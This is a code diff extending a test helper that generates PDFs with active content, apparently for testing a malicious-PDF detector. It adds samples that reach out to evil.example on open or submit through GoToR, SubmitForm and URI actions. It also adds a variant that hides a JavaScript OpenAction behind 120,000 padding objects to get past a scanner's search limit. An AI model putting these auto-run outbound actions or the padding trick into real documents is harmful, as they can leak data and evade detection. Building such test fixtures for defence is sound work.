@@ -103,6 +103,7 @@ def active_pdf_bytes(kind: str) -> bytes:
         DictionaryObject,
         FloatObject,
         NameObject,
+        NullObject,
         TextStringObject,
     )
 
@@ -150,6 +151,37 @@ def active_pdf_bytes(kind: str) -> bytes:
             }
         )
         page[NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])
+    elif kind in ("gotor", "submitform", "openaction_uri", "page_aa_uri", "link_uri"):
+        action = {
+            "gotor": {"/S": "/GoToR", "/F": "\\\\evil.example\\share\\x.pdf"},
+            "submitform": {"/S": "/SubmitForm", "/F": "https://evil.example/"},
+        }.get(kind, {"/S": "/URI", "/URI": "https://evil.example/"})
+        action = DictionaryObject(
+            {
+                NameObject(k): NameObject(v) if v.startswith("/") else TextStringObject(v)
+                for k, v in action.items()
+            }
+        )
+        if kind == "page_aa_uri":  # on opening the page
+            page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): action})
+        elif kind == "link_uri":  # an ordinary link: followed only when clicked
+            link = DictionaryObject(
+                {
+                    NameObject("/Type"): NameObject("/Annot"),
+                    NameObject("/Subtype"): NameObject("/Link"),
+                    NameObject("/Rect"): ArrayObject([FloatObject(0)] * 4),
+                    NameObject("/A"): action,
+                }
+            )
+            page[NameObject("/Annots")] = ArrayObject([writer._add_object(link)])
+        else:
+            root[NameObject("/OpenAction")] = writer._add_object(action)
+    elif kind == "many_objects":  # a script hidden behind more objects than are searched
+        nulls = ArrayObject(writer._add_object(NullObject()) for _ in range(120_000))
+        root[NameObject("/Z")] = ArrayObject([writer._add_object(nulls)])
+        root[NameObject("/OpenAction")] = DictionaryObject(
+            {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("1")}
+        )
     elif kind == "xfa":
         root[NameObject("/AcroForm")] = DictionaryObject(
             {
